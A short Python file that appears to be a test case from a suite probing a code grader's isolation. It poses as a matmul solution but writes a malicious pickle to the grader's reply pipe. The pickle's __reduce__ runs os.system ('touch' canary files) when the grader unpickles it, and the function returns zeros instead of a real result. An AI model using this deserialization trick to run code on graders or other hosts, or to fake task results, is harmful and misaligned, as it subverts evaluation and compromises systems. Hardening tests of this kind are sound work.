# attacks: 1.2
# damage: writes its own reply onto the child's reply pipe (its fd is in sys.argv): a pickle
#   that runs `touch` on the grader's machine when unpickled
# needs: boundary
import os
import pickle
import struct
import sys

import torch


class Exploit:
    def __reduce__(self):
        return (os.system, ("touch __HOST__/unpickled-__TOKEN__ /tmp/unpickled-__TOKEN__",))


def matmul(a, b):
    payload = pickle.dumps({"ok": True, "value": {"result": Exploit()}})
    os.write(int(sys.argv[-1]), struct.pack("!Q", len(payload)) + payload)
    return torch.zeros(a.shape[0], b.shape[1])
